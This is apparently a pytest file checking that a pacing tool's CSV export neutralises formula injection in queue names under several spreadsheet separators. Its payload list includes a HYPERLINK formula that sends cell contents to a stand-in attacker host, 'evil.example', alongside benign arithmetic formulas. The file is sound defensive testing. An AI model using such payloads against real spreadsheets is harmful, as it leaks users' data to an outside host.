"""CSV formula injection after a separator (issue 13): `pacing export` as operators run it.

Virtual queue names are operator text that ends up in every target_id cell. A spreadsheet may
split a CSV line at `,`, `;`, TAB or `|` depending on its locale; under none of them may a
piece of any cell start a formula. (The dashboard's download writes through the same function:
tests/browser/test_pages.py compares the two files byte for byte.)
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.support import pacing_cli

NAMES = [
    "x;=1+1",
    "a\t=2+2",
    "b|=3+3",
    'c;=HYPERLINK("http://evil.example/?"&A1;"click")',
    "d; =1+1",
    "=1+1",
    " =1+1",
    "e,=5+5",
    "f\n=6+6",
    "g;@SUM(1)",
]
FORMULA_START = ("=", "+", "-", "@")


def config() -> str:
    parts = [
        '[node]\nnode_id = "csv"\ndatabase = "pacing.db"\n[Backlog]\nfolder = "backlog"\n'
        '"HiveOff.ArchiveFolder" = "archive"\n[simulator]\nstart_staffed = true\n'
    ]
    for index, name in enumerate(NAMES):
        parts.append(
            f'[[virtual_queues]]\nname = {json.dumps(name)}\nnumber = "{7100 + index}"\n'
            '[virtual_queues.pacing]\nmedia = "chat"\n'
        )
    numbers = ", ".join(f'"{7100 + index}"' for index in range(len(NAMES)))
    parts.append(
        '[[agents]]\nname = "a"\ncount = 3\n[[agent_groups]]\nname = "G"\n'
        f'agents = ["a-01", "a-02", "a-03"]\ncapacity = {{ chat = 2 }}\n'
        f"origination_dns = [{numbers}]\n"
    )
    return "\n".join(parts)


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("csv")
    (folder / "pacing.toml").write_text(config(), encoding="utf-8")
    node = pacing_cli("node", "--config", "pacing.toml", "--cycles", "1", cwd=folder)
    assert node.returncode == 0, node.stderr[-2000:]
    export = pacing_cli(
        "export", "--config", "pacing.toml", "--columns", "target_id,reason", "--out", "h.csv",
        cwd=folder,
    )  # fmt: skip
    assert export.returncode == 0, export.stderr[-2000:]
    return (folder / "h.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "separator", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab", "pipe"]
)
def test_no_cell_starts_a_formula_whatever_separator_a_spreadsheet_splits_at(
    exported: str, separator: str
) -> None:
    cells = [cell for row in csv.reader(io.StringIO(exported), delimiter=separator) for cell in row]
    assert cells  # quotes are honoured, as spreadsheets do: a quoted cell is never split
    assert [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_START)] == []


def test_each_name_is_still_readable_in_the_export(exported: str) -> None:
    rows = list(csv.DictReader(io.StringIO(exported)))
    shown = {row["target_id"].removeprefix("'") for row in rows}
    assert shown == {f"{name} - chat" for name in NAMES}
